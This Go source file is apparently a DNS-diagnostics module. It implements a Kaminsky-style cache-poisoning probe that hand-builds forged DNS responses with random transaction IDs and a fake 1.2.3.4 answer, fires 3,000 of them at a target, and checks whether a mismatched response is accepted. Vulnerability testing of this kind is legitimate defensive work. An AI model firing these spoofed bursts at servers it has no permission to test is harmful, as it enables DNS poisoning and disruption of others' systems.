// Package probe is component G of spec.md: two one-shot vulnerability
// checks against a target (server IP, port) pair using a fixed probe
// domain. G1 is a Kaminsky-style TXID-guessing cache-poisoning attempt;
// G2 measures amplification potential via an ANY query.
//
// G1's spoof-burst datagrams are deliberately built byte-by-byte with
// encoding/binary rather than miekg/dns's Msg/Pack helpers used
// everywhere else in this module — the frame is an attacker's forged
// "response-shaped" packet, not a real outbound query, so constructing it
// through the same codec that validates and serializes genuine messages
// would defeat the point of the exercise. The wire layout this package
// builds is, byte for byte:
//
//	offset  bytes  field
//	0       2      TXID (attacker's guess, varies per datagram)
//	2       2      flags, fixed 0x8180 (QR=1, RD=1, RA=1, RCODE=0)
//	4       2      QDCOUNT = 1
//	6       2      ANCOUNT = 1
//	8       2      NSCOUNT = 0
//	10      2      ARCOUNT = 0
//	12      ...    question section, copied verbatim from the probe query
//	                (QNAME + QTYPE + QCLASS)
//	N       2      answer NAME: compression pointer 0xC00C to offset 0x0c
//	N+2     2      answer TYPE = 1 (A)
//	N+4     2      answer CLASS = 1 (IN)
//	N+6     4      answer TTL = 60
//	N+10    2      answer RDLENGTH = 4
//	N+12    4      answer RDATA = 1.2.3.4
//
// grounded on other_examples' kukalajet-go-dns-resolver (dns.go), the one
// example in the pack that hand-rolls DNS wire bytes with encoding/binary
// instead of reaching for miekg/dns.
package probe

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"math/big"
	"net"
	"sync"
	"time"

	"github.com/miekg/dns"

	"github.com/domaindiag/dnsdiag/diaglog"
	"github.com/domaindiag/dnsdiag/transport"
	"github.com/domaindiag/dnsdiag/wire"
)

// ProbeDomain is the fixed domain name used by both G1 and G2 (spec.md §6).
const ProbeDomain = "example.com"

// SpoofCount is the number of forged response datagrams fired in the G1
// spoof burst (spec.md §6).
const SpoofCount = 3000

// SpoofPhaseOffset is the minimum delay between the start of the spoof
// burst and the emission of the real probe query (spec.md §4.G/§5).
const SpoofPhaseOffset = 500 * time.Millisecond

// RealProbeTimeout bounds how long the real probe waits for a matching
// response (spec.md §6).
const RealProbeTimeout = 3 * time.Second

// forgedARecord is the spoofed answer's RDATA, fixed per spec.md §4.G.
var forgedARecord = [4]byte{1, 2, 3, 4}

// SpoofOutcome classifies the result of a G1 run.
type SpoofOutcome int

const (
	// SpoofBenign means the real probe's genuine response arrived with
	// the matching TXID before any spoofed datagram was accepted.
	SpoofBenign SpoofOutcome = iota
	// SpoofLanded means a forged datagram with a mismatched TXID was
	// accepted as if it were the real response — a successful attack.
	SpoofLanded
	// SpoofTimedOut means neither the genuine response nor a spoofed
	// datagram produced an accepted answer within RealProbeTimeout.
	SpoofTimedOut
)

func (o SpoofOutcome) String() string {
	switch o {
	case SpoofBenign:
		return "attack did not land"
	case SpoofLanded:
		return "potential susceptibility: mismatched TXID accepted"
	case SpoofTimedOut:
		return "timeout"
	default:
		return "unknown"
	}
}

// SpoofResult is the outcome of one G1 run.
type SpoofResult struct {
	Outcome      SpoofOutcome
	QueryTXID    uint16
	ResponseTXID uint16 // only meaningful when a response was observed
}

// RunSpoof performs the G1 Kaminsky-style probe against server:port.
// It fires SpoofCount forged datagrams carrying random TXIDs at the
// target starting immediately, then waits SpoofPhaseOffset and emits one
// genuine query for ProbeDomain with its own random TXID, listening on
// the same local socket used to send it for any response — forged or
// real — within RealProbeTimeout.
func RunSpoof(ctx context.Context, serverIP string, port int, sink diaglog.Sink) (SpoofResult, error) {
	conn, err := transport.RawConn(serverIP, port)
	if err != nil {
		return SpoofResult{}, fmt.Errorf("dial target: %w", err)
	}
	defer conn.Close()

	query := wire.BuildQuery(ProbeDomain, dns.TypeA, true)
	queryBytes, err := query.Pack()
	if err != nil {
		return SpoofResult{}, fmt.Errorf("pack real probe query: %w", err)
	}

	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		burstSpoofedResponses(conn, queryBytes[12:], sink)
	}()

	sink.Record(diaglog.LevelInfo, "spoof burst started",
		diaglog.F("target", serverIP), diaglog.F("port", port), diaglog.F("count", SpoofCount))

	select {
	case <-time.After(SpoofPhaseOffset):
	case <-ctx.Done():
		wg.Wait()
		return SpoofResult{}, ctx.Err()
	}

	queryTXID := query.Id
	if _, err := conn.Write(queryBytes); err != nil {
		wg.Wait()
		return SpoofResult{}, fmt.Errorf("send real probe query: %w", err)
	}
	sink.Record(diaglog.LevelInfo, "real probe sent", diaglog.F("txid", queryTXID))

	respTXID, err := readTXID(conn, RealProbeTimeout)
	wg.Wait()

	result := SpoofResult{QueryTXID: queryTXID}
	switch {
	case err != nil:
		result.Outcome = SpoofTimedOut
	case respTXID == queryTXID:
		result.Outcome = SpoofBenign
		result.ResponseTXID = respTXID
	default:
		result.Outcome = SpoofLanded
		result.ResponseTXID = respTXID
	}

	sink.Record(diaglog.LevelInfo, "spoof probe result",
		diaglog.F("target", serverIP), diaglog.F("outcome", result.Outcome.String()))

	return result, nil
}

func readTXID(conn net.Conn, timeout time.Duration) (uint16, error) {
	_ = conn.SetReadDeadline(time.Now().Add(timeout))
	buf := make([]byte, 512)
	n, err := conn.Read(buf)
	if err != nil {
		return 0, err
	}
	if n < 2 {
		return 0, fmt.Errorf("short datagram: %d bytes", n)
	}
	return binary.BigEndian.Uint16(buf[:2]), nil
}

// burstSpoofedResponses fires SpoofCount forged "response-shaped"
// datagrams at conn's already-connected peer, each with a freshly
// randomized TXID, built per the wire layout documented on this file.
func burstSpoofedResponses(conn net.Conn, question []byte, sink diaglog.Sink) {
	for i := 0; i < SpoofCount; i++ {
		txid, err := randomUint16()
		if err != nil {
			sink.Record(diaglog.LevelWarn, "spoof txid generation failed", diaglog.F("err", err))
			continue
		}

		frame := buildForgedResponse(txid, question)
		if _, err := conn.Write(frame); err != nil {
			sink.Record(diaglog.LevelWarn, "spoof datagram send failed", diaglog.F("err", err))
			return
		}
	}
}

// buildForgedResponse assembles one forged DNS response datagram per the
// layout table documented on this file's package comment.
func buildForgedResponse(txid uint16, question []byte) []byte {
	var buf bytes.Buffer

	writeUint16(&buf, txid)
	writeUint16(&buf, 0x8180) // QR=1, opcode=0, AA=0, TC=0, RD=1, RA=1, Z=0, RCODE=0
	writeUint16(&buf, 1)      // QDCOUNT
	writeUint16(&buf, 1)      // ANCOUNT
	writeUint16(&buf, 0)      // NSCOUNT
	writeUint16(&buf, 0)      // ARCOUNT

	buf.Write(question) // question section, verbatim, starts at offset 0x0c

	writeUint16(&buf, 0xC00C) // NAME: compression pointer to offset 0x0c
	writeUint16(&buf, 1)      // TYPE = A
	writeUint16(&buf, 1)      // CLASS = IN
	writeUint32(&buf, 60)     // TTL = 60s
	writeUint16(&buf, 4)      // RDLENGTH = 4
	buf.Write(forgedARecord[:])

	return buf.Bytes()
}

func writeUint16(buf *bytes.Buffer, v uint16) {
	var b [2]byte
	binary.BigEndian.PutUint16(b[:], v)
	buf.Write(b[:])
}

func writeUint32(buf *bytes.Buffer, v uint32) {
	var b [4]byte
	binary.BigEndian.PutUint32(b[:], v)
	buf.Write(b[:])
}

func randomUint16() (uint16, error) {
	n, err := rand.Int(rand.Reader, big.NewInt(1<<16))
	if err != nil {
		return 0, err
	}
	return uint16(n.Int64()), nil
}
